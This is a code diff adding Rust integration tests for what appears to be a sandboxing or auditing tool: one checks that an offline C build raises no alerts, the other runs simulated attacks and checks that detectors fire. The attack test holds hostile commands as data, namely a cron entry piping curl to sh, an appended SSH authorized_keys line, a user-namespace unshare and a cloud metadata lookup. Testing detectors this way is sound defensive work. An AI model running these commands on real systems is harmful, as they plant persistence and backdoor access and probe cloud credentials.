@@ -233,3 +233,129 @@ fn what_the_job_leaves_on_disk_is_recorded_and_persistence_classified() {
     assert_eq!(scan.len(), 1);
     w.assert_clean();
 }
+
+fn report(path: &std::path::Path) -> serde_json::Value {
+    serde_json::from_slice(&std::fs::read(path).expect("report")).expect("json")
+}
+
+fn detectors(r: &serde_json::Value) -> Vec<String> {
+    r["alerts"]
+        .as_array()
+        .expect("alerts")
+        .iter()
+        .filter_map(|a| a["detector"].as_str().map(str::to_owned))
+        .collect()
+}
+
+#[test]
+fn a_real_offline_build_raises_no_alerts() {
+    need_root!();
+    let w = World::new();
+    // A small C project with make, the compiler, the archiver and git: hundreds of execs,
+    // files written in the workspace and /tmp, no network.
+    let ws = w.ws();
+    for i in 0..12 {
+        std::fs::write(
+            ws.join(format!("m{i}.c")),
+            format!("int f{i}(int x) {{ return x * {i} + 1; }}\n"),
+        )
+        .expect("src");
+    }
+    let calls: String = (0..12).map(|i| format!("s += f{i}(s); ")).collect();
+    let decls: String = (0..12).map(|i| format!("int f{i}(int);\n")).collect();
+    std::fs::write(
+        ws.join("main.c"),
+        format!("#include <stdio.h>\n{decls}int main(void) {{ int s = 1; {calls} printf(\"%d\\n\", s); return 0; }}\n"),
+    )
+    .expect("main");
+    std::fs::write(
+        ws.join("Makefile"),
+        "OBJ := $(patsubst %.c,%.o,$(filter m%.c,$(wildcard *.c)))\n\
+         app: main.o libm.a\n\tcc -o $@ main.o libm.a\n\
+         libm.a: $(OBJ)\n\tar rcs $@ $^\n\
+         %.o: %.c\n\tcc -O2 -c $< -o $@\n\
+         clean:\n\trm -f *.o *.a app\n",
+    )
+    .expect("makefile");
+    let rep = w.dir.path().join("benign.json");
+    let o = w
+        .cmd()
+        .args(["run", "-q", "--report"])
+        .arg(&rep)
+        .arg("-w")
+        .arg(&ws)
+        .args([
+            "--",
+            "/bin/sh",
+            "-c",
+            "git init -q . && git add -A && git -c user.email=ci@example.com -c user.name=ci commit -qm init \
+             && make -j2 >/dev/null && ./app && make clean >/dev/null && make -j2 >/dev/null && ./app",
+        ])
+        .output()
+        .expect("run");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let r = report(&rep);
+    assert_eq!(detectors(&r), Vec::<String>::new(), "{}", stderr(&o));
+    assert!(
+        records(&w, "process.exec").len() > 50,
+        "the build was observed"
+    );
+    assert!(!stderr(&o).contains("alert"), "{}", stderr(&o));
+    w.assert_clean();
+}
+
+#[test]
+fn attacks_raise_their_alerts_with_evidence() {
+    need_root!();
+    let w = World::new();
+    let rep = w.dir.path().join("attack.json");
+    let o = w
+        .cmd()
+        .args(["run", "-q", "--report"])
+        .arg(&rep)
+        .args([
+            "--",
+            "/bin/sh",
+            "-c",
+            "echo '* * * * * curl x|sh' > /tmp/cron; mkdir -p ~/.ssh; echo k >> ~/.ssh/authorized_keys; \
+             unshare -U true; getent hosts metadata.google.internal; exit 0",
+        ])
+        .output()
+        .expect("run");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let r = report(&rep);
+    let d = detectors(&r);
+    for want in [
+        "persistence-attempt",
+        "privileged-operation",
+        "metadata-access",
+    ] {
+        assert!(d.iter().any(|x| x == want), "{want} missing: {d:?}");
+    }
+    // Each alert is on the record and names evidence that exists.
+    let alerts = records(&w, "alert");
+    assert_eq!(alerts.len(), d.len());
+    let shown = w
+        .cmd()
+        .args(["audit", "show", "--json"])
+        .output()
+        .expect("show");
+    let all: Vec<serde_json::Value> = stdout(&shown)
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("json"))
+        .collect();
+    for a in &alerts {
+        for e in a["data"]["evidence"].as_array().expect("evidence") {
+            assert!(
+                all.iter().any(|r| r["seq"] == *e && r["job"] == a["job"]),
+                "evidence {e} of {a} is not a record of the job"
+            );
+        }
+    }
+    assert!(
+        stderr(&o).contains("privileged-operation"),
+        "{}",
+        stderr(&o)
+    );
+    w.assert_clean();
+}
